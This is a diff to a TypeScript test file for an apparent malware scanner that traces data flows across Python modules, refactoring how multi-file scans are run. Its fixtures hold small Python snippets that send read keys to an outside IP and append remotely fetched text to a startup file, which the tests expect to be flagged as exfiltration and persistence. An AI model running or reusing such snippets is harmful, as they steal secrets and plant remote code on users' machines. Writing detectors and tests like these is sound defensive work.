@@ -1,17 +1,32 @@
 import fc from 'fast-check';
 import { beforeAll, expect, test } from 'vitest';
 import { longestCut } from '../bounds.ts';
+import type { ScanFinding } from '../finding.ts';
 import { modulesToFollow } from '../modules/follow.ts';
-import { prepare, scanFile, scanModules } from '../scan-file.ts';
+import { followInOrder } from '../modules/links.ts';
+import { outlookOf, prepare, scanFile } from '../scan-file.ts';
+import type { SourceFile } from '../source-file.ts';
 import { unescapeText } from './strings.ts';
 
 beforeAll(async () => {
   await prepare(new Set(['python', 'shell', 'javascript']));
 });
 
-function scanAll(text: string, path = 'a.py') {
-  const bytes = new TextEncoder().encode(text);
-  return scanFile({ path, language: 'python', text, bytes }, { indicators: false });
+function python(path: string, text: string): SourceFile {
+  return { path, language: 'python', text, bytes: new TextEncoder().encode(text) };
+}
+const scanAll = (text: string, path = 'a.py') =>
+  scanFile(python(path, text), { indicators: false });
+/** What files show together, the imported before those that import them. */
+function followed(texts: ReadonlyMap<string, string>) {
+  const files = new Map([...texts].map(([path, text]) => [path, python(path, text)]));
+  const { paths } = modulesToFollow([...files.values()].map(outlookOf));
+  const findings: ScanFinding[] = [];
+  followInOrder(paths, (path, links) => {
+    const file = files.get(path);
+    if (file) findings.push(...scanFile(file, { indicators: false, links }).findings);
+  });
+  return { paths, findings };
 }
 const scan = (text: string, path?: string) => scanAll(text, path).findings;
 const worst = (text: string) =>
@@ -92,10 +107,7 @@ test('data is followed from file to file', () => {
       'from pkg.keys import read\nfrom pkg import net\nnet.send(read(), to="http://203.0.113.9/in")\n',
     ],
   ]);
-  const found = scanModules(['pkg/keys.py', 'pkg/net.py', 'main.py'], (path) => {
-    const text = files.get(path);
-    return text === undefined ? undefined : { path, text };
-  });
+  const { findings: found } = followed(files);
   expect(found.map(({ rule, severity, file, line }) => [rule, severity, file, line])).toEqual([
     ['exfiltration', 'critical', 'pkg/net.py', 3],
   ]);
@@ -112,10 +124,8 @@ test('a program that is Python by its first line alone is followed into its modu
     ],
     ['bin/net.py', 'import requests\ndef send(body):\n    requests.post(to, json=body)\n'],
   ]);
-  const results = [...files].map(([path, text]) => scanAll(text, path));
-  const { paths } = modulesToFollow(results);
+  const { paths, findings: found } = followed(files);
   expect(paths).toEqual(['bin/net.py', 'bin/run']);
-  const found = scanModules(paths, (path) => ({ path, text: files.get(path) ?? '' }));
   expect(found.map(({ rule, file, line }) => [rule, file, line])).toEqual([
     ['exfiltration', 'bin/net.py', 3],
   ]);
@@ -129,11 +139,7 @@ test('a place that one file names and another writes to is followed', () => {
       'import requests\nfrom places import RC\nwith open(RC, "a") as f:\n    f.write(requests.get("http://203.0.113.9/a").text)\n',
     ],
   ]);
-  const results = [...files].map(([path, text]) => scanAll(text, path));
-  const found = scanModules(modulesToFollow(results).paths, (path) => ({
-    path,
-    text: files.get(path) ?? '',
-  }));
+  const { findings: found } = followed(files);
   expect(found.map(({ rule, file }) => [rule, file])).toEqual([['persistence', 'main.py']]);
 });
 
